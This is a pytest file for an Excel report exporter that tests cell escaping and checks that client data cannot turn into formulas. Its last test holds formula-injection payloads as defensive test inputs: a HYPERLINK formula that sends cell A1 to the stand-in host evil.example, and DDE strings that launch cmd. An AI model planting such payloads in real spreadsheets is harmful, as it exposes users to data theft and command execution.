"""The Excel export: a sheet of verdicts, a sheet of open questions, and no formula from
client data."""

from __future__ import annotations

import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.report.excel import escape_cell
from app.report.service import build_xlsx
from rules.pack import Pack
from tests.app.test_report_view import AI_STARTUP
from tests.conftest import assess_dict

GENERATED = datetime(2026, 11, 26, 9, 30)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 27 8765 4321", "'+86 27 8765 4321"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("光谷=1", "光谷=1"),
        ("a\x07b", "ab"),
        (45, 45),
        (None, None),
    ],
)
def test_escape_cell(value: object, expected: object) -> None:
    assert escape_cell(value) == expected


def test_workbook_has_verdicts_and_open_questions(pack: Pack, tmp_path: Path) -> None:
    assessment = assess_dict(pack, AI_STARTUP)
    path = build_xlsx(assessment, tmp_path / "out.xlsx", lang="zh", generated=GENERATED)
    book = load_workbook(path)
    assert book.sheetnames == ["结论", "待回答问题", "报告信息"]
    verdicts = book["结论"]
    header = [c.value for c in verdicts[1]]
    assert header[:5] == ["序号", "措施", "标题", "结论", "结论代码"]
    rows = list(verdicts.iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(pack.measures)
    m02 = next(r for r in rows if r[1] == "m02")
    assert m02[0] == 2 and m02[3] == "适用" and m02[4] == "eligible" and "15%" in m02[7]
    questions = list(book["待回答问题"].iter_rows(min_row=2, values_only=True))
    assert [q[2] for q in questions] == [q.field for q in assessment.next_questions]
    assert questions[0][0] == 1 and questions[0][3] == len(assessment.next_questions[0].resolves)
    about = dict(book["报告信息"].iter_rows(values_only=True))
    assert about["企业名称"] == "光谷智算科技有限公司"
    assert about["规则包校验值(SHA-256)"] == pack.sha256


def test_english_workbook(pack: Pack, tmp_path: Path) -> None:
    path = build_xlsx(assess_dict(pack, AI_STARTUP), tmp_path, lang="en", generated=GENERATED)
    assert path.name == "光谷智算科技有限公司_2026-11-26.xlsx"
    book = load_workbook(path)
    assert book.sheetnames == ["Verdicts", "Open questions", "About"]
    assert book["Verdicts"]["D1"].value == "Verdict"


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ],
)
def test_client_data_cannot_become_a_formula(pack: Pack, tmp_path: Path, payload: str) -> None:
    assessment = assess_dict(pack, {**AI_STARTUP, "name": payload})
    path = build_xlsx(assessment, tmp_path / "x.xlsx", generated=GENERATED)
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    about = dict(load_workbook(path)["报告信息"].iter_rows(values_only=True))
    assert about["企业名称"] == "'" + payload
    cell = load_workbook(path)["报告信息"]["B1"]
    assert cell.data_type == "s"
